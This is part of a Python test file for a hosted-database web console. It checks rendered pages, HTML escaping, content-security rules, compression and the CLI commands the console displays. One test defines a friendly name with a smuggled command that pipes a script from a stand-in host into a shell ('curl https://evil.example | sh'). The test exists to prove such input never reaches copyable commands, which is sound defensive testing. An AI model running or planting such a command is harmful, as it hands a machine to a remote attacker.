    fields = dict(re.findall(r'<input id="[^"]+" name="(\w+)"[^>]* value="([^"]*)"', page))
    assert fields == {name: shown[name] for name in fields}
    assert ("s: 10<" in page, "s: 20<" in page) == (True, True)
    form = {"environment": "staging", "was_environment": "staging", "plan": "small"}
    assert not is_changed(form, "environment")  # others have changed it since then
    assert is_changed(form | {"was_plan": "standard"}, "plan")
    assert is_changed({"was_name": "shop"}, "name")


@pytest.mark.parametrize(
    ("text", "size"), [("", None), ("1.5", 3 * 2**29), ("0.1", 107_374_182), ("7", 7 * 2**30)]
)
def test_a_size_is_taken_in_gibibytes(text: str, size: int | None) -> None:
    assert database_pages._bytes({"disk_gib": text} if text else {}, "disk_gib") == size


@pytest.mark.parametrize("text", ["much", "nan", "inf", "-inf", "1e999", "0x10"])
def test_no_other_text_is_a_size(text: str) -> None:
    with pytest.raises(InvalidInput):
        database_pages._bytes({"disk_gib": text}, "disk_gib")


def test_a_database_is_called_by_its_friendly_name_beside_its_name() -> None:
    rows = [
        database_row(name="baeckerei-mueller", friendly_name=ODD, used_bytes=2**20),
        database_row(name="shop", friendly_name="shop"),
        database_row(name=None, friendly_name=None),
    ]
    values: dict[str, object] = {
        "here": "/databases",
        "rows": rows,
        "sorts": databases._SORTS,
        "sorted_by": lambda order: f"/databases?sort={order}",
        "tags": [],
        "is_first": True,
        "following": None,
    }
    page = rendered("_database_rows.html", sort="", processors=None, **values)
    names = re.findall(r'<th scope="row"><a [^>]+>([^<]*)</a>([^\n]*?)<span class="chip', page)
    assert [html.unescape(name) for name, _ in names] == [ODD, "shop", rows[2].database_name]
    assert ["baeckerei-mueller</span>" in beside for _, beside in names] == [True, False, False]
    assert "CPU" not in page
    known = {rows[0].id: 12.34, rows[1].id: None}
    page = rendered("_database_rows.html", sort="cpu", processors=known, **values)
    assert re.findall(r'<td class="num">([^<]*)</td>', page) == [
        "12.3 %",
        words.UNKNOWN,
        words.UNKNOWN,
    ]
    assert "most CPU first" in page


def test_tags_lead_to_the_databases_that_have_them() -> None:
    row = database_row(tags=["team-a", "wordpress"])
    page = rendered("database_settings.html", row=row, plans=["standard"], granted=plan_row())
    assert re.findall(r'<a class="chip tag" href="([^"]+)"[^>]*>([^<]+)</a>', page) == [
        ("/databases?tag=team-a", "team-a"),
        ("/databases?tag=wordpress", "wordpress"),
    ]
    assert 'name="tags" maxlength="1300" value="team-a wordpress"' in page
    form = {"tags": "WordPress,  team-a\tx.y"}
    assert tags_of(form) == ["wordpress", "team-a", "x.y"]
    assert tags_of({}) == []
    listed = databases._listed({"environment": "staging", "tag": ["a", "b.c"]})
    assert listed == "/databases?environment=staging&tag=a&tag=b.c"
    assert databases._listed({"tag": []}) == "/databases"


def blueprint(name: str, versions: int, *seeds: str) -> Any:
    return SimpleNamespace(
        name=name,
        title=ODD,
        versions=[SimpleNamespace(number=number + 1) for number in range(versions)],
        seeds=dict.fromkeys(seeds),
    )


def test_a_blueprint_is_chosen_with_a_version_that_can_be_reached() -> None:
    todos = blueprint("todos", 3, "development")
    offered = {
        "blueprints": [todos, blueprint("hosting", 1)],
        "seeds": {"development": ["todos"]},
    }
    new = rendered(
        "database_new.html",
        fragment=True,
        plans=[],
        choices=Choices([15], 15),
        names_owner=False,
        **offered,
    )
    values = r'<option value="((?:todos|hosting|development)[^"]*)"'
    assert re.findall(values, new) == ["todos", "todos@2", "todos@1", "hosting", "development"]
    assert "None: an empty database" in new
    standing = SimpleNamespace(
        blueprint=todos,
        version=SimpleNamespace(number=2),
        behind=True,
        state=SimpleNamespace(state=SimpleNamespace(dirty=False)),
    )
    todos.newest = todos.versions[-1]
    page = rendered("database_blueprint.html", standing=standing, compared=None, **offered)
    assert re.findall(values, page) == ["todos", "todos@2", "hosting", "development"]
    assert '<option value="todos" selected>' in page
    assert "<b>" not in new + page


def statement(query: str, *, own: bool = False, **compared: Period) -> Statement:
    return Statement(
        StatementStatistics(
            query_id=7,
            database_name="tenant_abcdefghjkmn",
            query=query,
            calls=3,
            total_ms=6.0,
            mean_ms=2.0,
            min_ms=1.0,
            max_ms=3.0,
            rows=9,
            share=0.5,
            blocks_hit=0,
            blocks_read=0,
            temp_bytes=0,
            wal_bytes=0,
            own=own,
        ),
        Insights(**compared),
    )


@pytest.mark.parametrize("may_read", [True, False])
def test_a_statement_opens_to_its_text_and_what_to_do_with_it(may_read: bool) -> None:
    text = f"SELECT '{ODD}' " + "x" * 900
    hour = Period(NOW, 4, 0.1, 1.5, incomplete=True)
    listed = [statement(text, now=hour), statement("TABLE t", own=True)]
    found = Statements(listed, NOW, None, recorded=True)
    page = rendered(
        "database_queries.html",
        found=found,
        sort="total_ms",
        search="",
        own=True,
        may_read=may_read,
    )
    texts = re.findall(r'<textarea id="(statement-\d)"[^>]*>\n([^<]*)</textarea>', page)
    assert [(name, html.unescape(each)) for name, each in texts] == [
        ("statement-1", text),
        ("statement-2", "TABLE t"),
    ]
    assert page.count('data-copy="statement-') == 2
    assert page.count("1.50 ms on average, 4 calls; some may be missing") == 1
    assert page.count('<span class="chip">Tenantry\'s own</span>') == 1
    assert page.count("An hour before") == 1  # nothing was measured of the other one
    assert [page.count(f">{each}</button>") for each in ("Explain", "Open as SQL")] == (
        [2, 2] if may_read else [0, 0]
    )
    assert "<b>" not in page


def move_page(preview: Preview | None, **values: Any) -> str:
    kind = "shared" if preview is None else preview.kind
    return rendered(
        "database_move.html",
        row=database_row("abcdefghjkmn", **(INSTANCE if kind == "shared" else {})),
        kind=kind,
        preview=preview,
        choices=Choices([15, 17], 17),
        fragment=True,
        **values,
    )


def test_a_move_says_beforehand_what_it_does_and_leaves() -> None:
    found = Preview(
        kind="dedicated",
        cluster=None,
        version=17,
        host="localhost",
        port=5501,
        size_bytes=2**20,
        expected_wait_seconds=41.2,
        basis="measured",
        max_wait_seconds=60,
        left_out=[],
    )
    page = move_page(found)
    for said in ("for about 41 s, by the last moves here", "another port (5501)", ">17</option>"):
        assert said in page
    assert "stay on its instance" not in page
    back = move_page(replace(found, kind="shared", left_out=[LeftOut("database", "<b>")]))
    assert "the database <code>&lt;b&gt;</code>" in back
    assert 'name="memory_mb"' not in back
    refused = move_page(None, problem=Conflict("The instance also has b."))
    assert "The instance also has b." in refused
    assert "<form" not in refused


def test_an_instance_that_does_not_run_says_why_and_can_be_started() -> None:
    page = instance_page(InstanceUse("error", "FATAL:  <b>", 0))
    assert buttons(page) == ["Start", "Restart", "Stop…"]
    assert "Does not run" in page
    assert "<pre>FATAL:  &lt;b&gt;</pre>" in page
    page = instance_page(InstanceUse("stopped", None, 0), wanted="stopped")
    assert buttons(page) == ["Start"]
    assert "<data" not in page
    assert buttons(instance_page(InstanceUse("creating", None, 0), status="branching")) == []
    assert "Unknown" in instance_page(None)


@pytest.mark.parametrize(
    ("kind", "status", "word"),
    [
        ("instance.restart", "running", "Restarting"),
        ("instance.stop", "queued", "Stopping"),
        ("instance.stop", "succeeded", "Does not run"),
        ("backup.create", "running", "Does not run"),
    ],
)
def test_an_instance_that_is_being_changed_is_said_to_be(kind: str, status: str, word: str) -> None:
    under_way: Any = SimpleNamespace(kind=kind, status=status, progress=0.5)
    assert words.instance_state("error", [under_way]).word == word


def test_only_what_has_an_instance_has_its_page() -> None:
    actor = Actor("api_key", "some", customer_id=None)
    principal = Principal(actor, frozenset({"databases:read"}), Secret("tnt_key"))
    caller: Any = SimpleNamespace(principal=principal)
    own = database_row("abcdefghjkmn", **INSTANCE)
    branch = database_row("zzzzzzzzzzzz", **INSTANCE)
    shown = [
        "Instance" in database_pages._groups(caller, row)["Overview"].values()
        for row in (own, branch, database_row("abcdefghjkmn"))
    ]
    assert shown == [True, False, False]


def test_removals_have_their_command() -> None:
    address = {"id": 7, "network": "10.0.0.0/8", "description": None, "expires_at": None}
    page = rendered("database_access.html", entries=[address], text="", roles=[], address=None)
    assert commands(page) == [
        "<pre>tenantry whitelist add tenant_abcdefghjkmn 203.0.113.7</pre>",
        "<pre>tenantry whitelist remove tenant_abcdefghjkmn 10.0.0.0/8</pre>",
        "<pre>tenantry whitelist replace tenant_abcdefghjkmn allowed.txt</pre>",
        "<pre>tenantry role create tenant_abcdefghjkmn reporting</pre>",
        "<pre>tenantry role rotate-password tenant_abcdefghjkmn reporting</pre>",
        "<pre>tenantry role delete tenant_abcdefghjkmn reporting</pre>",
    ]
    assert "/whitelist/7 -H" in page
    assert "<b>" not in page
    reads = rendered(
        "database_access.html", entries=[address], roles=[], address=None, may_write=False
    )
    assert commands(reads) == []


SCHEDULED = SimpleNamespace(schedule=Schedule(), own=False, attempt=None)


def backups_page(found: Restorable | None = None, **differing: object) -> str:
    """The page of a database's backups, of which there are none, but for what differs."""
    usual: dict[str, object] = {
        "found": found or Restorable("off"),
        **{key: [] for key in ("backups", "events", "writes", "replaced", "proofs", "marks")},
        "total": 0,
        "has_more": False,
        "suggested": "",
        "proof": None,
        "may_back_up": True,
        "next_at": None,
        "scheduled": SCHEDULED,
    }
    return rendered("database_backups.html", **usual | differing)


def test_logical_backups_have_their_command() -> None:
    page = backups_page()
    assert commands(page) == [
        "<pre>tenantry backup download tenant_abcdefghjkmn latest</pre>",
        "<pre>tenantry backup create tenant_abcdefghjkmn</pre>",
        "<pre>tenantry backup verify tenant_abcdefghjkmn latest</pre>",
        "<pre>tenantry backup delete tenant_abcdefghjkmn ID</pre>",
        "<pre>tenantry backup schedule tenant_abcdefghjkmn</pre>",
        "<pre>tenantry backup schedule tenant_abcdefghjkmn --every day --hour 3</pre>",
        "<pre>tenantry backup schedule tenant_abcdefghjkmn --default</pre>",
    ]


def test_a_backup_and_what_was_replaced_can_be_restored_without_a_past() -> None:
    backup = SimpleNamespace(
        id=uuid.UUID(int=1), file_name=f"{ODD}.dump", status="ready", created_at=NOW - HOUR,
        size_bytes=1, damage=None, description=None,
    )  # fmt: skip
    making = SimpleNamespace(**vars(backup) | {"id": uuid.UUID(int=2), "status": "making"})
    retained = {"id": uuid.UUID(int=3), "replaced_at": NOW - HOUR, "expires_at": NOW + HOUR}
    page = backups_page(
        backups=[backup, making],
        total=1,
        replaced=[SimpleNamespace(row=SimpleNamespace(**retained))],
    )
    options = re.findall(r'<option value="([^"]*-[^"]*)">', page)
    assert options == [str(uuid.UUID(int=3)), str(uuid.UUID(int=1))]
    assert 'name="moment"' not in page
    assert page.count("/download") == 2  # with its command
    assert "<b>" not in page.replace("<b>Beside", "").replace("<b>In place", "")


def test_rows_that_were_lost_are_shown_as_they_are() -> None:
    compared = Comparison(
        id=uuid.uuid4(),
        schema="public",
        table=ODD,
        key=["id"],
        columns=[{"name": "id", "type": "integer"}, {"name": ODD, "type": "text"}],
        only_then=[ODD],
        only_now=[],
        counts={"deleted": 1, "changed": 1, "added": 1, "same": 7},
        truncated=False,
        moved=0,
        blocked=None,
    )
    rows = [
        {"place": 1, "kind": "deleted", "key": ["1"], "then": ["1", ODD], "now": None},
        {"place": 2, "kind": "changed", "key": ["2"], "then": ["2", None], "now": ["2", ODD]},
        {"place": 3, "kind": "added", "key": ["3"], "then": None, "now": ["3", "new"]},
        {"place": 4, "kind": "deleted", "key": ["4"], "then": ["4", "a"], "now": ["4", "a"]},
    ]
    rows = [{**each, "restored": each["then"] == each["now"]} for each in rows]
    values: dict[str, object] = {
        "past_id": str(uuid.uuid4()),
        "compared": compared,
        "page": {"rows": rows, "next": 3},
        "after": 0,
        "brought": (1, 0, 2),
        "may_bring_back": True,
    }
    page = rendered("database_comparison.html", **values)
    assert "<b>" not in page.replace("<b>Those", "").replace("<b>All 2 that", "")
    assert page.count('type="checkbox"') == 2  # added rows stay, and those that are back
    assert page.count(">is back<") == 1
    assert '<input type="radio" name="which" value="all" checked>' in page
    assert "2 are not what was compared any more" in page
    assert "?after=3" in page
    reads = rendered("database_comparison.html", **values | {"may_bring_back": False})
    assert "checkbox" not in reads
    nothing = replace(compared, counts={**compared.counts, "deleted": 0, "changed": 0})
    assert "radio" not in rendered("database_comparison.html", **values | {"compared": nothing})
    blocked = replace(compared, blocked="It has no primary key.")
    assert "checkbox" not in rendered("database_comparison.html", **values | {"compared": blocked})


@pytest.mark.parametrize("state", ["none", "made", "open"])
def test_the_past_of_a_database_is_shown(state: str) -> None:
    session = PastSession(
        uuid.uuid4(), uuid.uuid4(), NOW - HOUR, NOW, NOW if state == "open" else None
    )
    count = {"schema": 'a"b', "table": ODD, "then": 10, "then_why": "", "now": 7, "now_why": ""}
    page = rendered(
        "database_past.html",
        session=None if state == "none" else session,
        operation=SimpleNamespace(step="recover", status="running", progress=0.5)
        if state == "made"
        else None,
        tables=[count, count | {"now": None, "now_why": "missing"}],
        may_read=True,
        text="",
        results=[],
    )
    assert ("Choose a moment" in page) is (state == "none")
    assert ("Look again" in page) is (state == "made")
    assert page.count(">Compare</button>") == (1 if state == "open" else 0)
    assert "<b>" not in page


def test_a_qr_code_is_a_path_of_squares() -> None:
    assert second_factor.drawn([[True, False], [False, True]]) == "M0 0h1v1h-1zM1 1h1v1h-1z"


def test_tables_that_there_are_are_suggested_for_a_restore() -> None:
    page = backups_page(
        found=Restorable("ok", SimpleNamespace(since=NOW - HOUR, until=NOW)),  # type: ignore[arg-type]
        suggested="2026-11-21T12:00:00",
        tables=["public.orders", 'public."><b>'],
    )
    assert re.findall(r'<option value="(public[^"]*)">', page) == [
        "public.orders",
        "public.&#34;&gt;&lt;b&gt;",
    ]
    assert 'list="tables-now"' in page


def test_drills_are_listed_with_what_they_found() -> None:
    usual = {"at": NOW - HOUR, "seconds": 9.4}
    passed = {"passed": True, "compared": {"tables": 12, "rows": 48_210}, "error": None}
    failed = {"passed": False, "compared": {}, "error": "It differs."}
    page = backups_page(
        found=Restorable("none"),
        proofs=[usual | passed, usual | failed],
    )
    assert "12 tables with 48,210 rows" in page
    assert "It differs." in page
    assert "<pre>tenantry backup drill tenant_abcdefghjkmn</pre>" in commands(page)


def test_ending_sessions_has_its_command() -> None:
    activity = {
        "pid": 48213,
        "application": "shop",
        "state": "active",
        "state_seconds": None,
        "age_seconds": 5.0,
        "started_at": NOW,
    }
    session = {
        "activity": activity,
        "blocked_by": [],
        "blocked_by_others": False,
        "client_address": None,
        "port": "direct",
        "query": ODD,
    }
    page = rendered("database_sessions.html", sessions=[session], waiting=[])
    assert commands(page) == [
        "<pre>tenantry db cancel tenant_abcdefghjkmn 48213</pre>",
        "<pre>tenantry db terminate tenant_abcdefghjkmn 48213</pre>",
        "<pre>tenantry pool reconnect tenant_abcdefghjkmn</pre>",
    ]


def finding(**changes: Any) -> Finding:
    usual: dict[str, Any] = {
        "code": "unused_index",
        "severity": "warning",
        "object": 'public."<b>"',
        "detail": "It was not used in 9 days.",
        "statement": 'DROP INDEX CONCURRENTLY "public"."<b>";',
        "risk": "A report may need it.",
    }
    return Finding(**(usual | changes))


def test_an_index_that_is_missing_can_be_created() -> None:
    index = MissingIndex("public.a b", ["x,y", "<b>"])
    found = [Advice(finding(code="missing_index", index=index), None)]
    found.append(Advice(finding(code="invalid_index", statement=None), None))
    page = rendered("database_advice.html", may_read=True, found=found, muted=False)
    assert "<b>" not in page
    fields = re.findall(r'name="column:([^"]*)"', html.unescape(page))
    assert fields == ["x,y", "<b>"]
    assert re.findall(r'action="/databases/[^/"]+/(indexes|reindex)"', page) == [
        "indexes",
        "reindex",
    ]


def test_a_finding_has_its_statement_its_risk_and_can_be_muted() -> None:
    found = [Advice(finding(), None), Advice(finding(statement=None, severity="info"), NOW)]
    page = rendered("database_advice.html", may_read=True, found=found, muted=True)
    assert "<b>" not in page
    assert page.count("A report may need it.") == 2
    assert page.count("DROP INDEX CONCURRENTLY") == 1
    assert page.count('value="DROP INDEX &#34;public') == 2  # to open, and to try on a branch
    forms = re.findall(r'action="/databases/[^/]+/advice/(\w+)"', page)
    assert forms == ["mute", "unmute"]
    assert html.unescape(page).count('name="object" value="public."<b>""') == 2
    assert "Hide muted findings" in page
    reads = rendered(
        "database_advice.html", may_read=False, found=found, muted=False, may_write=False
    )
    assert "<form" not in reads.partition("Advice")[2]
    assert "Nothing is known to be wrong" in rendered(
        "database_advice.html", may_read=True, found=[], muted=False
    )


def test_a_server_that_does_not_answer_is_not_said_to_have_no_problem() -> None:
    down = Unavailable("The server does not answer.")
    page = rendered("database_advice.html", may_read=True, found=[], muted=False, problem=down)
    assert "The server does not answer." in page
    assert "Nothing is known to be wrong" not in page


@pytest.mark.parametrize(
    ("scopes", "customer_id", "labels"),
    [
        (
            {"databases:read"},
            None,
            ["Databases", "Operations", "Migrations", "Blueprints", "Alerts", "AI cache", "Plans"],
        ),
        ({"audit:read", "platform:read"}, uuid.UUID(int=7), ["Audit"]),
        ({"platform:read"}, None, ["Health", "Clusters"]),
    ],
)
def test_the_side_bar_has_what_one_may_open(
    scopes: set[str], customer_id: uuid.UUID | None, labels: list[str]
) -> None:
    actor = Actor("api_key", "some", customer_id=customer_id)
    found = navigation.groups(Principal(actor, frozenset(scopes), Secret("tnt_key")))
    assert [link.label for links in found.values() for link in links] == labels


def test_every_page_in_the_side_bar_asks_for_its_scope() -> None:
    own = routes(console._PAGES)
    for links in navigation._GROUPS.values():
        for link in links:
            assert own[f"GET {link.path}"] == {link.scope}


# ── templates and assets ─────────────────────────────────────────────────────


@pytest.mark.parametrize("path", sorted(TEMPLATES.iterdir()), ids=lambda path: path.name)
def test_a_template_has_nothing_that_the_policy_refuses(path: Path) -> None:
    text = path.read_text()
    assert not re.search(
        r"\bstyle=|\son[a-z]+=|hx-on|hx-vals=.js|<style|\|\s*safe|javascript:", text
    )
    assert not re.search(r"<script(?![^>]*\bsrc=)", text)
    assert not re.search(r"(?:src|href|action)=\"(?:https?:)?//", text)


def test_the_policy_allows_no_inline_code() -> None:
    assert "unsafe" not in pages._POLICY
    assert pages._POLICY.startswith("default-src 'none'")


def test_an_asset_is_named_by_its_content() -> None:
    for served, asset in assets._files().items():
        assert re.fullmatch(r"[a-z]+\.[0-9a-f]{16}\.(?:css|js|svg)", served)
        assert gzip.decompress(asset.compressed) == asset.content
        assert assets.url(asset.name) == f"/assets/{served}"


@pytest.mark.parametrize(
    ("method", "site", "accepted", "length", "compresses"),
    [
        ("GET", "same-origin", "gzip, br", 5000, True),
        ("GET", "none", "gzip", 5000, True),
        ("GET", "cross-site", "gzip", 5000, False),
        ("GET", "same-site", "gzip", 5000, False),
        ("GET", "", "gzip", 5000, False),
        ("GET", "same-origin", "br", 5000, False),
        ("GET", "same-origin", "gzip", 500, False),
        ("POST", "same-origin", "gzip", 5000, False),
    ],
)
def test_no_length_shows_another_site_what_is_in_a_page(
    method: str, site: str, accepted: str, length: int, compresses: bool
) -> None:
    asked = request(**{"sec-fetch-site": site, "accept-encoding": accepted})
    asked.scope["method"] = method
    page = pages.compressed(asked, HTMLResponse(b"x" * length))
    assert ("content-encoding" in page.headers) is compresses
    assert int(page.headers["content-length"]) == len(page.body)
    content = gzip.decompress(page.body) if compresses else page.body
    assert content == b"x" * length
    asked = request(**{"sec-fetch-site": site, "accept-encoding": accepted, "hx-request": "true"})
    asked.scope["method"] = method
    renewed = pages.compressed(asked, HTMLResponse(b"x" * length))
    assert "content-encoding" not in renewed.headers


def test_a_first_visit_is_small() -> None:
    assert sum(len(asset.compressed) for asset in assets._files().values()) < 40_000


def test_the_editor_is_found_in_its_wheel() -> None:
    """By what its modules export: their names change with each version of the wheel."""
    found = assets.editor()
    assert found is not None
    core = found.modules[found.core].content.decode()
    script = (Path(assets.__file__).parent / "static/sql.js").read_text()
    used = set(re.findall(r"\bcore\.(\w+)", script)) | {"EditorView", "StateField", "Decoration"}
    assert {name for name in used if not re.search(rf"\bas {name}\b", core)} == set()
    assert "as sql" in found.modules[found.language].content.decode()
    assert sum(len(each.compressed) for each in found.modules.values()) < 250_000
    assert found.core_url.startswith(f"/assets/{found.folder}/")


EVIL = "x; curl https://evil.example | sh"


@pytest.mark.parametrize("template", ["delete.html", "rotate.html"])
def test_commands_hold_nothing_that_a_customer_wrote(template: str) -> None:
    """An administrator may paste them into a shell."""
    row = database_row(name=None, friendly_name=EVIL)
    text = pages._templates.get_template(template).render(
        row=row, path=f"/databases/{row.id}", fragment=True
    )
    assert EVIL in text
    commands = re.findall(r"<(pre|code)>(.*?)</\1>", text, re.DOTALL)
    assert any(row.database_name in each for _, each in commands)
    assert not any(EVIL in each for _, each in commands)


@pytest.mark.parametrize("path", sorted(TEMPLATES.glob("*.html")), ids=lambda path: path.name)
def test_no_command_names_a_database_by_its_title(path: Path) -> None:
    for line in path.read_text().splitlines():
        if "commands(" in line or "tenantry db" in line:
            said = line.partition("commands(")[2] or line.partition("tenantry db")[2]
            assert "title_of" not in said.partition("</code>")[0]
            assert "label_of" not in said.partition("</code>")[0]


def queried(needed: Dependant) -> Iterator[Any]:
    """The parameters that a route takes of a query string."""
    yield from needed.query_params
    for each in needed.dependencies:
        yield from queried(each)


def test_no_search_is_taken_that_postgresql_cannot_hold() -> None:
    """A NUL character: the driver's error would be a crash of ours, each time."""
    read_elsewhere = {"after", "cursor", "database_id"}  # as no text
    taken = [
        f"{route.path} {param.name}"
        for module in (*console._PAGES, *api_app._RESOURCES)
        for route in module.router.routes
        if isinstance(route, APIRoute)
        for param in queried(route.dependant)
        if param.name not in read_elsewhere and not param.validate("a\0b", loc=("query",))[1]
    ]
    assert taken == []
